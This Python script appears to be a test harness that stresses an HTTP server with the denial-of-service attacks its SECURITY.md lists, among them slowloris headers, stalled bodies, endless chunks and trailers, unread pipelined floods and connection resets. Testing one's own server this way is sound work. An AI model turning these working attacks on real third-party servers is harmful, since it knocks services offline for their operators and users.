#!/usr/bin/env python3
"""The attacks on an HTTP server that SECURITY.md lists, and a program that carries one out.

attackers.py NAME --port PORT [--host 127.0.0.1] [--connections N] [--seconds 10] [--path PATH]
             [--body-path PATH] [--large-path PATH] [--opened-max N]

It attacks until the seconds are over or SIGTERM or SIGINT comes. It prints the line "full" when all
connections are opened, from which on the seconds count, and at the end what became of its
connections, as one line of JSON. In Python: attack(NAME, Target(host, port), seconds, stop).
"""

import argparse
import json
import resource
import signal
import sys
import threading
from collections import Counter
from pathlib import Path

sys.dont_write_bytecode = True
HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent / "support")]
from swarm import OPENED_MAX, Attack, Ending, Stop, Swarm, Target

MIB = 1024 * 1024
HEADER_BYTES = 16 * 1024  # The API's default limit.
HEADERS = 100  # The same.
PIPELINED = 1000


def request(target: Target, path: str = "") -> bytes:
    return target.head(path=path) + b"\r\n"


def large_header(target: Target) -> bytes:
    """Returns a header just below the limit, without its end."""
    head = target.head() + b"X-Large: "
    return head + b"a" * (HEADER_BYTES - 64 - len(head))


def many_headers(target: Target) -> bytes:
    """Returns as many fields as are allowed, without the header's end."""
    return target.head() + b"".join(b"X-%d: a\r\n" % number for number in range(HEADERS - 1))


def body(target: Target, method: str, path: str, sent: int) -> bytes:
    """Returns a request with a body of 1 MiB, of which this much is sent."""
    head = target.head(method, path) + b"Content-Type: application/json\r\n"
    return head + b'Content-Length: %d\r\n\r\n"' % MIB + b"a" * (sent - 1)


def chunked(target: Target, chunks: bytes) -> bytes:
    head = target.head("POST" if target.body_path else "GET", target.body_path)
    return (
        head
        + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        + b'1\r\n"\r\n'
        + chunks
    )


ALL = (
    Attack(
        "idle",
        "10,000 connections that send nothing.",
        10_000,
        lambda _: b"",
    ),
    Attack(
        "idle_after_request",
        "10,000 connections that send one request, read its answer and then nothing.",
        10_000,
        request,
    ),
    Attack(
        "beyond_the_limit",
        "12,000 connections, 2,000 more than are allowed, each with a header that never ends.",
        12_000,
        lambda target: target.head() + b"X-Slow: ",
        drip=lambda _: b"a",
        pause=4,
    ),
    Attack(
        "slow_header",
        "Headers that come byte by byte (slowloris).",
        10_000,
        lambda target: target.head() + b"X-Slow: ",
        drip=lambda _: b"a",
        pause=2,
    ),
    Attack(
        "large_header",
        "Headers of 16 KiB that never end.",
        10_000,
        large_header,
    ),
    Attack(
        "many_headers",
        "100 header fields whose end never comes.",
        10_000,
        many_headers,
    ),
    Attack(
        "body_without_operation",
        "All but the last byte of a body of 1 MiB, for an operation that has no body.",
        1_000,
        lambda target: body(target, "GET", target.path, MIB - 1),
    ),
    Attack(
        "slow_body",
        "All but the last byte of a body of 1 MiB, for an operation that has a body.",
        1_000,
        lambda target: body(target, "POST", target.body_path, MIB - 1),
        needs="body_path",
    ),
    Attack(
        "small_bodies",
        "Bodies of 1 MiB of which 8 KiB are sent, and then a byte at a time.",
        8_000,
        lambda target: body(target, "POST", target.body_path, 8192),
        drip=lambda _: b"a",
        pause=3,
        needs="body_path",
    ),
    Attack(
        "length_without_body",
        "A Content-Length of 1 MiB, and no body.",
        10_000,
        lambda target: body(target, "POST" if target.body_path else "GET", target.body_path, 1),
    ),
    Attack(
        "expect_without_body",
        "Expect: 100-continue, and no body after the 100.",
        10_000,
        lambda target: (
            target.head("POST" if target.body_path else "GET", target.body_path)
            + b"Content-Type: application/json\r\nExpect: 100-continue\r\n"
            + b"Content-Length: %d\r\n\r\n" % MIB
        ),
    ),
    Attack(
        "one_byte_chunks",
        "Bodies in chunks of one byte, without an end.",
        200,
        lambda target: chunked(target, b""),
        drip=lambda _: b"1\r\na\r\n" * 2000,
        pause=0,
    ),
    Attack(
        "chunk_extensions",
        "Chunks of one byte with an extension of 1 KiB each, without an end.",
        200,
        lambda target: chunked(target, b""),
        drip=lambda _: (b"1;x=" + b"e" * 1024 + b"\r\na\r\n") * 8,
        pause=0,
    ),
    Attack(
        "trailers",
        "A chunked body with trailers that never end.",
        8_000,
        lambda target: chunked(target, b'1\r\n"\r\n0\r\n'),
        drip=lambda _: b"X-Trailer: " + b"t" * 2048 + b"\r\n",
        pause=0.5,
    ),
    Attack(
        "pipelining",
        "Thousands of requests at once, of which all answers are read.",
        50,
        lambda target: request(target) * PIPELINED,
        drip=lambda target: request(target) * PIPELINED,
        pause=0,
    ),
    Attack(
        "slow_reader",
        "Thousands of requests at once, of which no answer is read.",
        1_000,
        lambda target: request(target) * PIPELINED,
        drip=lambda target: request(target) * PIPELINED,
        pause=0,
        reads=False,
    ),
    Attack(
        "slow_reader_of_problems",
        "The same with requests that are wrong, for larger answers.",
        1_000,
        lambda target: request(target, "/missing/" + "m" * 200) * PIPELINED,
        drip=lambda target: request(target, "/missing/" + "m" * 200) * PIPELINED,
        pause=0,
        reads=False,
    ),
    Attack(
        "slow_reader_of_large_answers",
        "The same with an operation whose answer is large.",
        1_000,
        lambda target: request(target, target.large_path) * PIPELINED,
        drip=lambda target: request(target, target.large_path) * PIPELINED,
        pause=0,
        reads=False,
        needs="large_path",
    ),
    Attack(
        "half_closed",
        "Half a request, then the end of the sending side.",
        5_000,
        lambda target: target.head() + b"X-Half: ",
        ending=Ending.HALF_CLOSE,
    ),
    Attack(
        "half_closed_readers",
        "Hundreds of requests, then the end of the sending side; no answer is read.",
        2_000,
        lambda target: request(target) * 300,
        ending=Ending.HALF_CLOSE,
        reads=False,
    ),
    Attack(
        "reset_after_connect",
        "Connections that are reset as soon as they are made.",
        100,
        lambda _: b"",
        ending=Ending.RESET,
    ),
    Attack(
        "reset_after_request",
        "Requests whose connections are reset before the answer.",
        100,
        request,
        ending=Ending.RESET,
    ),
    Attack(
        "churn",
        "A new connection for each request.",
        50,
        request,
        ending=Ending.CLOSE_AFTER_ANSWER,
    ),
    Attack(
        "publishing",
        "Events on 10,000 connections, each as soon as the one before is answered or overdue.",
        10_000,
        lambda target: request(target, target.publishing_path),
        ending=Ending.REPEAT_AFTER_ANSWER,
        needs="publishing_path",
    ),
)
ATTACKS = {each.name: each for each in ALL}


def attack(
    name: str,
    target: Target,
    seconds: float,
    stop: Stop | None = None,
    connections: int | None = None,
) -> Counter[str]:
    """Carries out an attack, and returns what has become of its connections (see Swarm.run)."""
    return Swarm(ATTACKS[name], target, connections).run(seconds, stop)


def raise_descriptor_limit() -> None:
    """Each connection is a descriptor."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main() -> int:
    parser = argparse.ArgumentParser(prog="attackers.py", description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int)
    parser.add_argument("--opened-max", type=int, default=OPENED_MAX)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--path", default=Target.path)
    parser.add_argument("--publishing-path", default=Target.publishing_path)
    parser.add_argument("--body-path", default="")
    parser.add_argument("--large-path", default="")
    options = parser.parse_args()
    target = Target(
        options.host,
        options.port,
        options.path,
        options.publishing_path,
        options.body_path,
        options.large_path,
    )
    needed = ATTACKS[options.name].needs
    if needed and not getattr(target, needed):
        parser.error(f"{options.name} needs --{needed.replace('_', '-')}")
    stop = threading.Event()
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, lambda *_: stop.set())
    raise_descriptor_limit()
    swarm = Swarm(ATTACKS[options.name], target, options.connections, options.opened_max)
    counts = swarm.run(options.seconds, stop, lambda: print("full", flush=True))
    print(json.dumps(counts))
    return 0


if __name__ == "__main__":
    sys.exit(main())
